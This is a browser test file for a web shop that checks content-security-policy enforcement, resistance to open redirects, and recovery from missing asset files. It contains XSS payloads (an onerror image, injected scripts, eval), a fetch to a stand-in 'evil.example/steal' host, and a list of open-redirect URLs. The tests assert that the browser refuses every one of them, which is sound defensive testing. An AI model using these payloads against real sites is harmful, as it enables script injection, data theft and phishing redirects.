// What only a real browser proves: that it enforces the content security policy, and that the shop survives missing
// files, hostile URLs and broken storage.
import { account } from '../../src/content/en/account/account'
import { checkout } from '../../src/content/en/cart/checkout'
import { appErrors } from '../../src/content/en/shared/app-errors'
import { fixedPages } from '../../src/content/en/shared/fixed-pages'
import { accounts, fillCart, fillCheckout } from '../fixtures/shop'
import { expect, test } from '../fixtures/test'

test('responses carry the hosting headers, and the browser enforces the content security policy', async ({
  page,
  shop,
  expected,
}) => {
  for (const path of ['/', '/product', '/admin/orders', '/nothing']) {
    const { headers } = await fetch(`${shop.url}${path}`)
    expect(headers.get('content-security-policy'), path).toContain("require-trusted-types-for 'script'")
    expect(headers.get('content-security-policy'), path).not.toContain('unsafe')
    expect(headers.get('x-frame-options'), path).toBe('DENY')
    expect(headers.get('permissions-policy'), path).toContain('camera=()')
  }
  const html = await (await fetch(shop.url)).text()
  const built = await fetch(shop.url + (/src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''))
  // Only a document is bound by a policy.
  expect(built.headers.get('content-security-policy')).toBeNull()
  expect(built.headers.get('cache-control')).toContain('immutable')
  expect(built.headers.get('x-content-type-options')).toBe('nosniff')
  const gone = await fetch(`${shop.url}/assets/gone-C0ffee.js`)
  expect([gone.status, gone.headers.get('cache-control')]).toEqual([404, 'no-store'])

  await page.goto('/help')
  await page.evaluate(async () => {
    const violations: string[] = []
    Reflect.set(window, 'violations', violations)
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      violations.push(effectiveDirective)
    })
    // Runs from a timer: inside Playwright's own evaluation the browser does not enforce the policy.
    const attempt = (run: () => void) =>
      setTimeout(() => {
        try {
          run()
        } catch {
          // Refused with an exception.
        }
      })
    attempt(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="__xss=1">')
    })
    attempt(() => {
      const script = document.createElement('script')
      script.append('__xss=2')
      document.body.append(script)
    })
    attempt(() => {
      const script = document.createElement('script')
      script.setAttribute('src', 'data:text/javascript,__xss=3')
      document.body.append(script)
    })
    attempt(() => {
      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
      globalThis.eval('__xss=4')
    })
    attempt(() => {
      document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))
    })
    attempt(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example' }))
    })
    await fetch('https://evil.example/steal').catch(() => undefined)
  })
  const refused = ['connect-src', 'frame-src', 'require-trusted-types-for', 'style-src-elem']
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'violations')))
    .toEqual(expect.arrayContaining(refused))
  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
  // The policy's refusals are console errors, which fail a test; this one expects them.
  for (const complaint of [/Content Security Policy/, /Trusted/, /evil\.example/, /^thrown: /])
    expected.complaint(complaint)
})

const evil = [
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  'https://evil.example',
  'https:evil.example',
  '/.//evil.example',
  'javascript:__xss=1',
  'data:text/html,<script>__xss=1</script>',
]

test('no redirect leads off the site, signed in or signing in', async ({ page, shop }) => {
  await page.goto(`/login?next=${encodeURIComponent(evil[0] ?? '')}`)
  await page.getByRole('textbox', { name: account.signIn.email, exact: true }).fill(accounts.shopper.email)
  await page.getByLabel(account.signIn.password, { exact: true }).fill(accounts.shopper.password)
  await page.getByRole('main').getByRole('button', { name: account.signIn.login, exact: true }).last().click()
  await expect(page).toHaveURL(`${shop.url}/profile`)
  // A signed-in member is redirected at once.
  for (const address of evil) {
    await page.goto(`/login?next=${encodeURIComponent(address)}`)
    await expect(page).toHaveURL(`${shop.url}/profile`)
  }
  await page.goto('/login?next=%2Fprofile%2Faddresses')
  await expect(page).toHaveURL(`${shop.url}/profile/addresses`)
  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
})

test('a missing file after a deployment reloads the page once, keeps what was typed and never loops', async ({
  page,
  shop,
  expected,
}) => {
  expected.complaint(/^404: GET .*\/assets\//)
  expected.complaint(/^console: .*(dynamically imported module|policy|track-page)/)
  // A page cannot hydrate without its code.
  expected.complaint(/^thrown: Minified React error #(418|422)/)
  const product = await shop.product()
  await fillCart(page, { product })
  await page.goto('/checkout')
  await fillCheckout(page)
  let loads = 0
  page.on('request', (request) => {
    if (request.isNavigationRequest()) loads += 1
  })
  /** The file is missing until the page has been loaded this many times. */
  const goneUntil = async (load: number, file: string) => {
    loads = 0
    await page.unrouteAll()
    await page.route(`**/assets/${file}-*.js`, (route) =>
      loads < load ? route.fulfill({ status: 404, body: '' }) : route.continue(),
    )
  }
  await goneUntil(1, 'policy')
  await page.getByRole('main').getByRole('link', { name: checkout.terms }).click()
  await expect(page.getByRole('heading', { level: 1, name: fixedPages.terms })).toBeVisible()
  expect(loads).toBe(1)
  await page.goBack()
  await expect(page.getByLabel(checkout.fields.city, { exact: true })).toHaveValue('Rabat')

  await page.evaluate(() => sessionStorage.removeItem('reloaded-for-new-version'))
  await goneUntil(Number.POSITIVE_INFINITY, 'track-page')
  await page.goto('/track')
  await expect(page.getByRole('heading', { level: 1, name: appErrors.router.title })).toBeVisible()
  // The first load and one reload.
  expect(loads).toBe(2)
  await expect(page.getByRole('banner')).toBeVisible()
  await page.getByRole('main').getByRole('link', { name: appErrors.router.home }).click()
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
})
